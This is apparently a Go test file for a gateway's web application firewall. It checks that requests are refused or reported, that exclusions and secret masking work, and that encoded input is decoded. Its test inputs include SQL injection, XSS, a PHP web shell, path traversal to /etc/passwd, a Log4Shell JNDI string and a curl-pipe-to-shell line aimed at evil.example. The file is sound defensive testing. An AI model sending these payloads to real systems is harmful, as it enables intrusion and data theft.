package validate_test

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	gatehouse "github.com/gatehouse-api/gatehouse"
	"github.com/gatehouse-api/gatehouse/internal/validate"
	"github.com/gatehouse-api/gatehouse/internal/validate/waf"
)

// listener is the compiled engine, and holds what it is given against what facts
// read from the message that goes on.
type listener struct {
	*waf.Rules

	t       testing.TB
	seen    []string // of the last request: the values, as text
	deaf    bool     // it only asks the rules
	differs bool     // what is excluded is not the same with and without
}

var loadRules = sync.OnceValues(func() (*waf.Rules, error) { return waf.Load(waf.Config{Paranoia: 1}) })

func listen(t testing.TB) *listener {
	t.Helper()
	r, err := loadRules()
	if err != nil {
		t.Fatal(err)
	}
	return &listener{Rules: r, t: t}
}

func (l *listener) Request(f *waf.Facts, v *waf.Verdict) {
	if l.deaf {
		l.Rules.Request(f, v)
		return
	}
	t := l.t
	var read waf.Facts
	read.Read(&f.Message)
	read.Rules = f.Rules
	path := slices.DeleteFunc(slices.Clone(f.Values), func(v waf.Value) bool { return v.In != waf.ArgPath })
	whole := f.Values
	f.Values = slices.DeleteFunc(slices.Clone(f.Values), func(v waf.Value) bool { return v.In == waf.ArgPath })
	l.seen = values(f)
	if want := values(&read); !told(l.seen, want) {
		t.Errorf("%s %s: filled\n  %s\nread\n  %s", f.Method, f.Target, strings.Join(l.seen, "\n  "), strings.Join(want, "\n  "))
	}
	if f.BodyProcessor != read.BodyProcessor || f.RequestBody != read.RequestBody || read.BodyError != "" {
		t.Errorf("%s %s: body read by %q (%q), want %q (%q); %s", f.Method, f.Target, f.BodyProcessor, f.RequestBody, read.BodyProcessor, read.RequestBody, read.BodyError)
	}
	var got, want waf.Verdict
	l.Rules.Request(f, &got)
	l.Rules.Request(&read, &want)
	if a, b := ids(&got), ids(&want); !l.differs && (!slices.Equal(a, b) || got.Score != want.Score || got.Block != want.Block) {
		t.Errorf("%s %s: with masks %v (%d), without %v (%d)\n%s", f.Method, f.Target, a, got.Score, b, want.Score, strings.Join(l.seen, "\n"))
	}
	f.Values = whole
	l.Rules.Request(f, v)
	for _, p := range path {
		l.seen = append(l.seen, fmt.Sprintf("%d %s=%s", p.In, p.Name, p.Text))
	}
}

// told reports whether got is want, but for values of the body that no rule looks
// at and that have no name therefore.
func told(got, want []string) bool {
	if len(got) != len(want) {
		return false
	}
	for _, x := range got {
		if x != "2 =" && !slices.Contains(want, x) {
			return false
		}
	}
	return true
}

func values(f *waf.Facts) []string {
	out := make([]string, 0, len(f.Values))
	for _, v := range f.Values {
		out = append(out, fmt.Sprintf("%d %s=%s", v.In, v.Name, v.Text))
	}
	slices.Sort(out)
	return out
}

func ids(v *waf.Verdict) []string {
	out := make([]string, 0, len(v.Hits))
	for _, h := range v.Hits {
		out = append(out, fmt.Sprintf("%d %s:%s", h.Rule, h.Target, h.Name))
	}
	slices.Sort(out)
	return out
}

// inspected is an API whose requests are shown to rules.
type inspected struct {
	*api

	l *listener
}

// What was proven is the same for every test: they share it.
var listening = sync.OnceValue(func() *validate.WAF { return validate.NewWAF(ear) })

var ear = new(listener)

func inspect(t testing.TB, file string, s validate.Settings) *inspected {
	t.Helper()
	l := ear
	l.Rules, l.t, l.differs, l.deaf = listen(t).Rules, t, false, false
	doc, err := validate.LoadFile(file, validate.Options{API: "demo", Settings: s, WAF: listening()})
	if err != nil {
		t.Fatal(err)
	}
	return &inspected{route(t, doc), l}
}

// ask takes a request through all checks.
func (a *inspected) ask(t testing.TB, r *http.Request) (found validate.Inspection, err error) {
	t.Helper()
	a.l.t = t
	path, _, _ := strings.Cut(r.RequestURI, "?")
	n, params, err := a.router.Match(r.Host, r.Method, path, nil)
	if err != nil {
		t.Fatal(err)
	}
	op := a.doc.Operations()[n]
	var head validate.Head
	var body validate.Body
	_, err = op.Head(r, params, nil, &head)
	if err == nil {
		err = op.Body(r, &body)
	}
	if err != nil {
		t.Fatalf("%s %s: refused before any rule: %v %+v", r.Method, r.RequestURI, err, gatehouse.AsProblem(err).Fields)
	}
	err = op.Inspect(r, "192.0.2.1", params, &head, &body, &found)
	return found, err
}

var browser = []string{
	"User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0", "Accept: application/json", "Accept-Encoding: gzip",
	"Authorization: Bearer eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJl",
}

// attacks are texts that the Core Rule Set knows, and some it must not mind.
var texts = []string{
	"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE orders; --", "<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`,
	"; cat /etc/passwd", "$(curl http://evil.example/x.sh|sh)", "../../../../etc/passwd", "${jndi:ldap://evil.example/a}", "{{7*7}}", "<?php system($_GET['c']); ?>",
	"a\nSet-Cookie: x=y", "%27%20or%201=1", "file:///etc/shadow", "O'Brien & Söhne", "It's 50% off -- today only", "select the best from our union", "C:\\Windows", "",
	"()\u003d>{}", "a=b&c=d", "\u0001", "null", "ünï", "{\"$gt\":\"\"}", "\" quoted \\ text",
}

func TestInspectShowsTheRulesWhatGoesOn(t *testing.T) {
	a := inspect(t, "testdata/orders.yaml", validate.Settings{Rules: validate.Report})
	type ask struct {
		line, body string
		fields     []string
	}
	asks := []ask{
		{"GET /v1/orders", "", nil},
		{"GET /v1/orders?status=open&limit=3&min_total=9.50&gift=true&tag=a&tag=b&ids=1,2,3&piped=a|b&spaced=a+b", "", []string{"X-Request-Id: " + orderID, "Cookie: theme=dark; sid=abc%27; other"}},
		{"GET /v1/orders?filter[city]=Z%C3%BCrich&filter%5Bmax%5D=3&meta[anything]=x&where=%7B%20%22a%22%20%3A%201%7D&mixed=7&flag", "", []string{"X-Codes: 1, 2", "X-Codes: 3"}},
		{"DELETE /v1/orders/" + orderID, "", nil},
		{"GET /v1/sums/1,2/.x", "", nil},
		{"POST /v1/orders", small, []string{asJSON}},
		{"POST /v1/orders", "sku=A+B&quantity=2&tag=x&tag=y&note=a%0Ab", []string{asForm}},
	}
	for _, x := range texts {
		q, j := encode(x), quote(x)
		asks = append(asks,
			ask{"GET /v1/orders/" + orderID + "?a=" + q, "", nil},
			ask{"GET /v1/orders?meta[k]=" + q + "&filter[city]=Bern&tag=x", "", nil},
			ask{"GET /v1/orders", "", []string{"Referer: " + clean(x), "Cookie: theme=light; x=" + clean(x)}},
			ask{"PATCH /v1/orders/" + orderID, `{"note":` + j + `}`, []string{"Content-Type: application/merge-patch+json"}},
			ask{"POST /v1/orders", strings.TrimSuffix(small, "}") + `,"note":` + j + `,"secret":` + j + `,"gift":false,"total":{"amount":1e3,"currency":"USD"},"tags":["a","b"]}`, []string{asJSON}},
			ask{"POST /v1/orders", "sku=A&note=" + q, []string{asForm}},
		)
		if x != "" && !strings.ContainsAny(x, `/\;%`+"\n\x01") {
			asks = append(asks, ask{"GET /v1/reports/" + encode(x) + ".csv", "", nil})
		}
	}
	for _, k := range asks {
		if strings.Contains(k.line, "%01") || strings.Contains(k.line, "%0A") || strings.Contains(k.body, "%01") {
			continue // refused before
		}
		_, err := a.ask(t, request(t, k.line, k.body, append(slices.Clone(browser), k.fields...)...))
		if err != nil {
			t.Errorf("%s: %v", k.line, err)
		}
	}
}

func encode(s string) string {
	return strings.ReplaceAll(url.QueryEscape(s), "+", "%20")
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// clean is s as a header's value can have it.
func clean(s string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' || r >= 0x7f || r == '"' || r == ',' || r == '\\' {
			return -1
		}
		return r
	}, s)
}

func TestInspectRefuses(t *testing.T) {
	a := inspect(t, "testdata/orders.yaml", validate.Settings{Rules: validate.Enforce})
	const attack = "1' UNION SELECT username, password FROM users--"
	tests := []struct {
		name, line, body string
		fields           []string
		want             gatehouse.Match // one of them; Part and Text not compared when empty
	}{
		{"in a query", "GET /v1/orders/" + orderID + "?a=" + encode(attack), "", nil, gatehouse.Match{Rule: 942100, In: "query", Name: "a", Severity: "critical", Level: 1}},
		{"in a path", "GET /v1/reports/" + encode(attack) + ".csv", "", nil, gatehouse.Match{Rule: 942100, In: "path", Name: "name"}},
		{"in JSON", "PATCH /v1/orders/" + orderID, `{"note":` + quote(attack) + `}`, []string{"Content-Type: application/merge-patch+json"}, gatehouse.Match{Rule: 942100, In: "body", Pointer: "/note"}},
		{
			"in JSON, deep", "POST /v1/orders", strings.Replace(small, `"quantity"`, `"note":`+quote(attack)+`,"quantity"`, 1),
			[]string{asJSON},
			gatehouse.Match{Rule: 942270, In: "body", Pointer: "/items/0/note", Part: "aaaaa aaaaaa aaaaaaaa, aaaaaaaa aaaa"},
		},
		{"in a form", "POST /v1/orders", "sku=A&note=" + encode(attack), []string{asForm}, gatehouse.Match{Rule: 942100, In: "body", Name: "note"}},
		{"in a cookie", "GET /v1/orders", "", []string{"Cookie: x=" + encode("${jndi:ldap://evil.example/a}")}, gatehouse.Match{Rule: 944150, In: "cookie", Name: "x", Part: "(secret)"}},
		{"in a header", "GET /v1/orders", "", []string{"Referer: ${jndi:ldap://evil.example/a}"}, gatehouse.Match{Rule: 944150, In: "header", Name: "Referer"}},
		{"in a header with a key", "GET /v1/orders", "", []string{"Authorization: ${jndi:ldap://evil.example/a}"}, gatehouse.Match{Rule: 944150, In: "header", Name: "Authorization", Part: "(secret)"}},
		{"in a secret field", "POST /v1/orders", strings.TrimSuffix(small, "}") + `,"secret":` + quote(attack) + "}", []string{asJSON}, gatehouse.Match{Rule: 942100, In: "body", Pointer: "/secret", Part: "(secret)"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			found, err := a.ask(t, request(t, tt.line, tt.body, append(slices.Clone(browser), tt.fields...)...))
			p := gatehouse.AsProblem(err)
			if p == nil || p.Reason != "harmful_input" || p.Kind != gatehouse.Forbidden || len(p.Fields) > 0 {
				t.Fatalf("%v, want harmful_input and nothing more; found %+v", err, found)
			}
			if !slices.ContainsFunc(found.Matches, func(m gatehouse.Match) bool {
				return m.Rule == tt.want.Rule && m.In == tt.want.In && m.Name == tt.want.Name && m.Pointer == tt.want.Pointer &&
					(tt.want.Part == "" || m.Part == tt.want.Part) && (tt.want.Severity == "" || m.Severity == tt.want.Severity && m.Level == tt.want.Level)
			}) {
				t.Errorf("matches %+v, want one like %+v", found.Matches, tt.want)
			}
			if found.Score < 5 || found.Reported != nil {
				t.Errorf("score %d, reported %v", found.Score, found.Reported)
			}
			for _, m := range found.Matches {
				for _, shown := range []string{m.Part, m.Text, m.Name, m.Pointer} {
					if strings.Contains(shown, "password") || strings.Contains(shown, "jndi") {
						t.Errorf("the record shows %q", shown)
					}
				}
			}
		})
	}
}

func TestInspectReports(t *testing.T) {
	a := inspect(t, "testdata/orders.yaml", validate.Settings{Rules: validate.Report})
	found, err := a.ask(t, request(t, "GET /v1/orders/"+orderID+"?a="+encode("<script>alert(1)</script>"), "", browser...))
	if err != nil || len(found.Reported) != 1 || found.Reported[0].Rule != "harmful_input" || len(found.Matches) == 0 {
		t.Errorf("%v, found %+v", err, found)
	}
	found, err = a.ask(t, request(t, "GET /v1/orders/"+orderID+"?a=hello", "", browser...))
	if err != nil || found.Reported != nil || found.Matches != nil || found.Score != 0 {
		t.Errorf("harmless: %v, found %+v", err, found)
	}
}

func TestExclusions(t *testing.T) {
	const attack = "1' UNION SELECT username, password FROM users--"
	inBody := strings.Replace(small, `"quantity"`, `"note":`+quote(attack)+`,"quantity"`, 1)
	tests := []struct {
		name, line, body string
		fields           []string
		parameter        string
		passes           bool
	}{
		{"a query parameter", "GET /v1/orders/" + orderID + "?a=" + encode(attack), "", nil, "query.a", true},
		{"another query parameter", "GET /v1/orders/" + orderID + "?b=" + encode(attack), "", nil, "query.a", false},
		{"a leaf", "POST /v1/orders", inBody, []string{asJSON}, "body/items/*/note", true},
		{"the leaf of one index", "POST /v1/orders", inBody, []string{asJSON}, "body/items/0/note", true},
		{"the leaf of another index", "POST /v1/orders", inBody, []string{asJSON}, "body/items/1/note", false},
		{"all that is in an array", "POST /v1/orders", inBody, []string{asJSON}, "body/items", true},
		{"another leaf", "POST /v1/orders", inBody, []string{asJSON}, "body/note", false},
		{"a form's field", "POST /v1/orders", "sku=A&note=" + encode(attack), []string{asForm}, "body.note", true},
		{"a header", "GET /v1/orders", "", []string{"Referer: ${jndi:ldap://x}"}, "header.referer", true},
		{"a cookie", "GET /v1/orders", "", []string{"Cookie: x=${jndi:ldap://x}"}, "cookie.x", true},
		{"everything", "GET /v1/orders/" + orderID + "?a=" + encode(attack), "", nil, "", true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := inspect(t, "testdata/orders.yaml", validate.Settings{Rules: validate.Enforce, Exclude: []validate.Exclusion{{Rules: []string{"attack-sqli", "932000-949000"}, Parameter: tt.parameter}}})
			a.l.differs = true
			found, err := a.ask(t, request(t, tt.line, tt.body, append(slices.Clone(browser), tt.fields...)...))
			if (err == nil) != tt.passes {
				t.Errorf("%v %+v", err, found.Matches)
			}
		})
	}
}

func TestRemaining(t *testing.T) {
	a := inspect(t, "../demo/orders.openapi.yaml", validate.Settings{Rules: validate.Enforce, Exclude: []validate.Exclusion{{Rules: []string{"attack-sqli"}, Parameter: "body/note"}}})
	type key struct{ op, in, name string }
	left := map[key]validate.FieldRules{}
	for _, op := range a.doc.Operations() {
		for _, f := range op.Remaining() {
			left[key{op.Op().ID, f.In, f.Name + f.Pointer}] = f
			sum := len(f.Left)
			for _, r := range f.Removed {
				if sum += len(r.Rules); r.Why == "" || len(r.Rules) == 0 {
					t.Errorf("%s %s%s: a removal without reason or rules: %+v", op.Op().ID, f.Name, f.Pointer, r)
				}
			}
			if sum != f.Rules {
				t.Errorf("%s %s%s: %d rules, of which %d are told of", op.Op().ID, f.Name, f.Pointer, f.Rules, sum)
			}
		}
	}
	for _, tt := range []struct {
		name      string
		at        key
		language  string
		atMost    int
		has, none int // rules that can, and that cannot match
	}{
		{"an id", key{"getOrder", "path", "orderId"}, "pattern ^ord_[0-9]{4,8}$, at most 12 characters", 6, 0, 942100},
		{"an enum", key{"listOrders", "query", "status"}, `one of "cancelled", "delivered", "open", "shipped"`, 2, 0, 941100},
		{"an integer", key{"createOrder", "body", "/quantity"}, "integer", 8, 0, 942100},
		{"prose", key{"createOrder", "body", "/item"}, "at most 80 characters", 200, 942100, 0},
		{"prose with rules excluded", key{"createOrder", "body", "/note"}, "at most 200 characters", 90, 941100, 942100},
	} {
		f, ok := left[tt.at]
		if !ok {
			t.Errorf("%s: nothing is said of %v", tt.name, tt.at)
			continue
		}
		if f.Language != tt.language || len(f.Left) > tt.atMost || tt.has != 0 && !slices.Contains(f.Left, tt.has) || tt.none != 0 && slices.Contains(f.Left, tt.none) {
			t.Errorf("%s: %q, %d of %d left: %v", tt.name, f.Language, len(f.Left), f.Rules, f.Left)
		}
	}
	if _, ok := left[key{"createOrder", "body", "/{}"}]; ok {
		t.Error("rules are told of for a member that there cannot be")
	}
}

func TestInspectLooksDeeper(t *testing.T) {
	hidden := base64.StdEncoding.EncodeToString([]byte("1' UNION SELECT username, password FROM users--"))
	line := "GET /v1/orders/" + orderID + "?a=" + encode(hidden)
	for _, tt := range []struct {
		name    string
		deeper  validate.Mode
		refused bool
		reports int
	}{
		{"off", validate.Off, false, 0},
		{"in report mode", validate.Report, false, 1},
		{"and refuses", validate.Enforce, true, 0},
	} {
		t.Run(tt.name, func(t *testing.T) {
			a := inspect(t, "testdata/orders.yaml", validate.Settings{Rules: validate.Enforce, Deeper: tt.deeper})
			a.l.deaf = true
			found, err := a.ask(t, request(t, line, "", browser...))
			if (err != nil) != tt.refused || len(found.Reported) != tt.reports {
				t.Errorf("%v %+v", err, found)
			}
			decoded := slices.ContainsFunc(found.Matches, func(m gatehouse.Match) bool {
				return m.Decoded == "base64" && m.In == "query" && m.Name == "a" && m.Rule/1000 == 942
			})
			if decoded != (tt.deeper != validate.Off) {
				t.Errorf("matches %+v", found.Matches)
			}
			if found, err = a.ask(t, request(t, "GET /v1/orders/"+orderID+"?a="+encode(base64.StdEncoding.EncodeToString([]byte("a harmless sentence, which is long enough"))), "", browser...)); err != nil || found.Matches != nil {
				t.Errorf("harmless: %v %+v", err, found)
			}
		})
	}
}

// An engine whose budget has ended.
type tired struct{ *waf.Rules }

func (tired) Request(_ *waf.Facts, v *waf.Verdict) { v.Over = true }

func TestWhatIsNotLookedThroughDoesNotPass(t *testing.T) {
	for _, tt := range []struct {
		name   string
		s      validate.Settings
		reason string
		report string
	}{
		{"refused", validate.Settings{Rules: validate.Enforce}, "input_not_inspected", ""},
		{"passed by setting, and said", validate.Settings{Rules: validate.Enforce, PassOverBudget: true}, "", "input_not_inspected"},
		{"in report mode", validate.Settings{Rules: validate.Report}, "", "input_not_inspected"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			doc, err := validate.LoadFile("testdata/orders.yaml", validate.Options{Settings: tt.s, WAF: validate.NewWAF(tired{listen(t).Rules})})
			if err != nil {
				t.Fatal(err)
			}
			p := pass(t, doc, request(t, "GET /v1/orders", "", browser...))
			err = p.op.Inspect(p.r, "192.0.2.1", p.path, &p.head, &p.body, &p.out)
			if got := gatehouse.AsProblem(err); tt.reason == "" && got != nil || tt.reason != "" && (got == nil || got.Reason != tt.reason) {
				t.Errorf("%v", err)
			}
			if tt.report != "" && (len(p.out.Reported) != 1 || p.out.Reported[0].Rule != tt.report) {
				t.Errorf("%+v", p.out)
			}
		})
	}
	doc, err := validate.LoadFile("testdata/orders.yaml", validate.Options{Settings: validate.Settings{Rules: validate.Report}})
	if err != nil {
		t.Fatal(err)
	}
	p := pass(t, doc, request(t, "GET /v1/orders", "", browser...))
	if err := p.op.Inspect(p.r, "192.0.2.1", p.path, &p.head, &p.body, &p.out); gatehouse.AsProblem(err) == nil {
		t.Error("without an engine a request passes")
	}
}

// An engine whose budget ends over what was decoded.
type tiring struct {
	*waf.Rules
	asked *int
}

func (e tiring) Request(_ *waf.Facts, v *waf.Verdict) {
	*e.asked++
	v.Over = *e.asked > 1
}

func TestWhatIsDecodedAndNotLookedThroughDoesNotPass(t *testing.T) {
	line := "GET /v1/orders/" + orderID + "?a=" + encode(base64.StdEncoding.EncodeToString([]byte("a sentence, which is long enough")))
	for _, tt := range []struct {
		name           string
		rules, deeper  validate.Mode
		pass           bool
		reason, report string
	}{
		{"refused", validate.Enforce, validate.Enforce, false, "input_not_inspected", ""},
		{"passed by setting, and said", validate.Enforce, validate.Enforce, true, "", "input_not_inspected"},
		{"where only decoding is in report mode", validate.Enforce, validate.Report, false, "", "input_not_inspected"},
		{"where all rules are", validate.Report, validate.Enforce, false, "", "input_not_inspected"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			asked := 0
			doc, err := validate.LoadFile("testdata/orders.yaml", validate.Options{
				Settings: validate.Settings{Rules: tt.rules, Deeper: tt.deeper, PassOverBudget: tt.pass},
				WAF:      validate.NewWAF(tiring{listen(t).Rules, &asked}),
			})
			if err != nil {
				t.Fatal(err)
			}
			p := pass(t, doc, request(t, line, "", browser...))
			err = p.op.Inspect(p.r, "192.0.2.1", p.path, &p.head, &p.body, &p.out)
			if asked != 2 {
				t.Fatalf("the engine was asked %d times", asked)
			}
			if got := gatehouse.AsProblem(err); tt.reason == "" && got != nil || tt.reason != "" && (got == nil || got.Reason != tt.reason) {
				t.Errorf("%v", err)
			}
			if tt.report != "" && (len(p.out.Reported) != 1 || p.out.Reported[0].Rule != tt.report) {
				t.Errorf("%+v", p.out)
			}
		})
	}
}
